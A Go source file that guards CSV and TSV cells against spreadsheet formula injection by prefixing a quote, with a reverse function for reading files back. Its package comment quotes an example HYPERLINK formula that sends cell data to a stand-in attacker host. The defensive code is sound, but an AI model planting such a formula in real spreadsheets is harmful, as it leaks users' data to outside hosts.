// Package sheet guards the cells of every CSV and TSV file sverka writes
// against spreadsheet formula injection, as OWASP advises: a cell that
// begins with =, +, -, @, a tab or a carriage return is run as a formula
// by Excel, LibreOffice and Google Sheets when an editor opens the file
// (=HYPERLINK("http://evil.example/?x="&A1,"Click") turns a glossary into
// a link that leaks the sheet). Such a cell is written with a leading ',
// which the spreadsheet shows as text; Unguard takes it off again when
// sverka reads the file back.
package sheet

// Guard returns the cell as a spreadsheet reads it as text: with a
// leading ' when it begins like a formula, or when it begins with a '
// before such a character (so that Unguard gives back exactly the text).
func Guard(cell string) string {
	if needsGuard(cell) {
		return "'" + cell
	}
	return cell
}

// Unguard takes off the ' that Guard added.
func Unguard(cell string) string {
	if len(cell) > 1 && cell[0] == '\'' && needsGuard(cell[1:]) {
		return cell[1:]
	}
	return cell
}

func needsGuard(s string) bool {
	for len(s) > 0 {
		switch s[0] {
		case '=', '+', '-', '@', '\t', '\r':
			return true
		case '\'':
			s = s[1:]
			continue
		}
		return false
	}
	return false
}
